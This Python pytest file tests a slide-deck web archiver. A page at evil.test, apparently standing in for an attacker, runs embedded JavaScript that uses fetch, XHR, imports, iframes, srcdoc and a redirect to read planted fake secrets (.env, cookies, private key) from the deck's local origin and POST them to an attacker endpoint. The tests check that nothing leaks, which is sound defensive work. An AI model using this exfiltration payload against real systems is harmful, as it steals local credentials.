"""What pages that are recorded can read of the deck's folder: nothing, however they ask."""

from __future__ import annotations

import asyncio
import gzip
import json
import zipfile
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.async_api import Browser, async_playwright

from bench.chromium import flags
from deckarchive import pipeline, warc
from deckarchive.browser import find_browser
from deckarchive.exact import find_exact
from deckarchive.model import Exchange
from deckarchive.proxy import ReplayProxy
from tests.capture.web import Answer, Asked, Web, local_web

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

SECRETS = {
    "deckarchive.toml": """[[capture.target]]
match = "https://other.test/*"
header = ["X-Token: TOKEN-of-the-toml"]
""",
    "cookies.txt": ".other.test\tTRUE\t/\tFALSE\t0\tsid\tVALUE-of-the-jar\n",
    "session.txt": "# Netscape HTTP Cookie File\n.other.test\tTRUE\t/\tFALSE\t0\tsid\tOTHER-jar\n",
    "state.json": '{"cookies": [{"name": "a", "value": "STATE-jar", "domain": "b.test"}]}',
    ".env": "KEY=HIDDEN-file\n",
    ".git/config": "[remote]\nurl = https://HIDDEN-folder@git.test/\n",
    "server.key.pem": "-----BEGIN PRIVATE KEY-----\nPEM-file\n",
    "package.json": '{"name": "PACKAGE-file"}',
}
NEVER = [name for name in SECRETS if name != "package.json"]
WORDS = ["TOKEN-of", "VALUE-of", "OTHER-jar", "STATE-jar", "HIDDEN-", "PEM-file", "PACKAGE-file"]
NOTES = "NOTES-of-the-speaker"

DECK = f"""# Mine

Note: {NOTES}

---

<!-- .slide: data-background-iframe="https://evil.test/" -->

---

<iframe src="demo/index.html"></iframe>
"""
OWN = """<!doctype html><title>Own</title><link rel="stylesheet" href="look.css">
<h1>A page of the deck's own</h1><img src="own.svg"><p id="said"></p>
<script type="module" src="main.js"></script>
<iframe src="https://evil.test/inside"></iframe>
<iframe src="https://evil.test/jump"></iframe><img src="https://evil.test/jump">
<iframe sandbox="allow-scripts" src="box.html"></iframe>
<iframe srcdoc="<img src='/demo/own.svg?srcdoc'>"></iframe>
"""
ATTACK = """<!doctype html><title>Evil</title><h1>A page of the web, well worth recording</h1>
<p>It has some words, so that its capture is judged to be whole.</p>
<script>
const names = %s;
const bases = ["http://deck.localhost/", "https://deck.localhost/", "http://DECK.localhost.:80/",
  "http://deck.localhost:80/%%2e/", "http://127.0.0.1/"];
const tell = (how, text) => fetch("/got?" + how, { method: "POST", body: String(text) });
const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
const work = [];
for (const base of bases) for (const name of names) {
  const url = base + name;
  for (const mode of ["cors", "no-cors", "same-origin"]) {
    work.push(fetch(url, { mode, referrer: "" }).then(r => r.text())
      .then(text => tell(mode, text), error => error));
  }
  work.push(new Promise(done => {
    const asked = new XMLHttpRequest();
    asked.onloadend = () => done(asked.responseText && tell("xhr", asked.responseText));
    asked.open("GET", url);
    asked.send();
  }));
  work.push(import(url).then(module => tell("import", JSON.stringify(module)), error => error));
  add("script", { src: url });
  add("link", { rel: "stylesheet", href: url });
  add("img", { srcset: url + "?small 1x, " + url + "?large 9x" });
  add("iframe", { src: url, onload() {
    try { tell("frame", this.contentDocument.documentElement.outerHTML); } catch { /* not ours */ }
  } });
  add("object", { data: url });
  add("video", { src: url + "?film" });
  const reads = `fetch("${url}").then(r => r.text()).then(body => `
    + `fetch("https://evil.test/got?srcdoc", { method: "POST", body }))`;
  add("iframe", { srcdoc: `<img src="${url}?framed"><script>${reads}</` + "script>" });
}
open(bases[0] + names[0]);
Promise.all(work).then(() => tell("done", "done"));
</script>"""


@dataclass
class Seen:
    """What a packed deck left: beside the log, targets by URL, the offline folder, the bundle."""

    web: Web
    home: Path
    exchanges: dict[str, list[Exchange]]
    records: dict[str, dict[str, object]]
    offline: Path
    bundle: Path


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Seen]:
    home = tmp_path_factory.mktemp("home")
    deck = home / "talk"
    for name, text in SECRETS.items():
        (deck / name).parent.mkdir(parents=True, exist_ok=True)
        (deck / name).write_text(text)
    (deck / "talk.md").write_text(DECK)
    (deck / "demo").mkdir()
    (deck / "demo/index.html").write_text(OWN)
    (deck / "demo/look.css").write_text("h1 { color: red }")
    (deck / "demo/own.svg").write_text(
        "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><rect width='9' height='9'/>"
        "</svg>"
    )
    (deck / "demo/box.html").write_text("<h1>boxed</h1><img src='own.svg?boxed'>")
    (deck / "demo/word.js").write_text("export default 'a module said so';")
    asks = "".join(
        f"fetch('/{name}').then(r => r.text()).then(t => {{ said.title += t }});\n"
        for name in NEVER
    )
    (deck / "demo/main.js").write_text(f"import w from './word.js'; said.textContent = w;\n{asks}")
    with local_web() as web:
        attack = ATTACK % json.dumps(["talk.md", "index.html", *SECRETS, "demo/word.js", ""])
        web.add("evil.test/", attack)
        web.add("evil.test/inside", attack)
        web.add("evil.test/got", "thanks")
        web.routes["evil.test/jump"] = lambda asked: Answer(
            status=302, headers={"Location": "http://deck.localhost/package.json"}
        )
        options = {"proxy": web.proxy, "insecure": True, "timeout": 20.0, "jobs": 2}
        archive, offline = home / "archive", home / "offline"
        pipeline.run_capture(deck / "talk.md", archive, options, lambda event: None)
        pipeline.run_rewrite(deck / "talk.md", archive, offline)
        pipeline.run_bundle(offline, home / "deck.zip")
        folders = sorted((archive / "targets").iterdir())
        records = [json.loads((f / "capture.json").read_text()) for f in folders]
        yield Seen(
            web=web,
            home=home,
            exchanges={
                r["url"]: warc.read_exchanges(f / "data.warc.gz")
                for r, f in zip(records, folders, strict=True)
            },
            records={r["url"]: r for r in records},
            offline=offline,
            bundle=home / "deck.zip",
        )


def texts(folder: Path) -> Iterator[tuple[str, str]]:
    """Each file of a folder as text, compressed ones opened."""
    for file in sorted(p for p in folder.rglob("*") if p.is_file()):
        data = file.read_bytes()
        if file.suffix == ".gz":
            data = gzip.decompress(data)
        yield file.relative_to(folder).as_posix(), data.decode("latin-1")


def test_the_page_did_try(seen: Seen) -> None:
    assert {a.body for a in seen.web.log if a.url == "https://evil.test/got?done"} == {b"done"}
    assert len([a for a in seen.web.log if a.url.endswith("/got?done")]) >= 2
    assert any(a.url == "https://evil.test/jump" for a in seen.web.log)


def test_its_server_got_nothing(seen: Seen) -> None:
    sent = [(a.url, word) for a in seen.web.log for word in [*WORDS, NOTES] if _holds(a, word)]
    assert sent == []
    told = [a.url for a in seen.web.log if a.url.startswith("https://evil.test/got")]
    assert set(told) == {"https://evil.test/got?done"}


def _holds(asked: Asked, word: str) -> bool:
    return word in asked.url or word.encode() in asked.body or word in str(asked.headers)


def test_the_archive_of_the_page_holds_nothing_of_the_deck(seen: Seen) -> None:
    own = [x.url for x in seen.exchanges["https://evil.test/"] if "deck.localhost" in x.url]
    assert own == []
    refused = seen.records["https://evil.test/"]["missing"]
    assert any("deck.localhost/deckarchive.toml" in str(one) for one in refused)  # type: ignore[attr-defined]


def test_a_frame_of_the_web_within_a_page_of_the_deck_reads_nothing(seen: Seen) -> None:
    page = "http://deck.localhost/demo/index.html"
    got = {
        x.url.removeprefix("http://deck.localhost/")
        for x in seen.exchanges[page]
        if x.status == 200 and "evil.test" not in x.url
    }
    assert got == {
        "demo/index.html", "demo/look.css", "demo/own.svg", "demo/main.js", "demo/word.js",
        "demo/box.html", "demo/own.svg?boxed", "demo/own.svg?srcdoc",
    }  # fmt: skip
    for x in seen.exchanges[page]:
        if "deck.localhost" in x.url:
            assert x.header("access-control-allow-origin") == ""
            assert x.header("x-content-type-options") == "nosniff"


def test_secrets_are_neither_served_nor_copied_anywhere(seen: Seen) -> None:
    for exchanges in seen.exchanges.values():
        for x in exchanges:
            with x.open_body() as body:
                data = body.read().decode("latin-1")
            assert [w for w in WORDS if w in data] == [], x.url
    found = [(path, w) for path, text in texts(seen.offline) for w in WORDS if w in text]
    with zipfile.ZipFile(seen.bundle) as bundle:
        bundle.extractall(seen.home / "unpacked")
    found += [(p, w) for p, text in texts(seen.home / "unpacked") for w in WORDS if w in text]
    assert found == []


READS = """async url => {
  const ways = [fetch(url, {referrer: ""}), fetch(url, {mode: "no-cors"}), import(url),
    new Promise((done, fail) => document.body.append(Object.assign(
      document.createElement("script"), {src: url, onload: done, onerror: fail})))];
  return (await Promise.allSettled(ways)).map(one => one.status);
}"""


def test_exact_replay_keeps_to_the_same_rule(seen: Seen) -> None:
    found = find_exact(seen.offline, seen.home / "archive", print)

    async def replayed(visit: Callable[[Browser], Awaitable[None]]) -> None:
        async with ReplayProxy(found.source, found.site) as replay, async_playwright() as engine:
            browser = await engine.chromium.launch(
                executable_path=str(find_browser(None).path),
                args=flags(
                    f"--proxy-server={replay.server}",
                    "--proxy-bypass-list=<-loopback>",
                    f"--ignore-certificate-errors-spki-list={replay.spki}",
                ),
            )
            await visit(browser)
            await browser.close()

    async def visit(browser: Browser) -> None:
        page = await browser.new_page()
        await page.goto("https://evil.test/inside", wait_until="commit")
        for name in ("demo/word.js", "talk.md", "package.json"):
            got = await page.evaluate(READS, f"http://deck.localhost/{name}")
            assert got == ["rejected"] * 4
        await page.close()
        page = await browser.new_page()
        await page.goto("http://deck.localhost/demo/box.html")
        own = "name => fetch(name).then(async r => [r.status, await r.text()])"
        assert (await page.evaluate(own, "/package.json"))[1] == SECRETS["package.json"]
        for name in NEVER:
            assert (await page.evaluate(own, f"/{name}"))[0] == 404

    asyncio.run(replayed(visit))


def test_the_deck_is_as_it_was(seen: Seen) -> None:
    states = {url: record["state"] for url, record in seen.records.items()}
    assert "failed" not in states.values(), states
    views = seen.records["http://deck.localhost/demo/index.html"]["views"]
    assert views
    assert NOTES in (seen.offline / "index.html").read_text("utf-8")
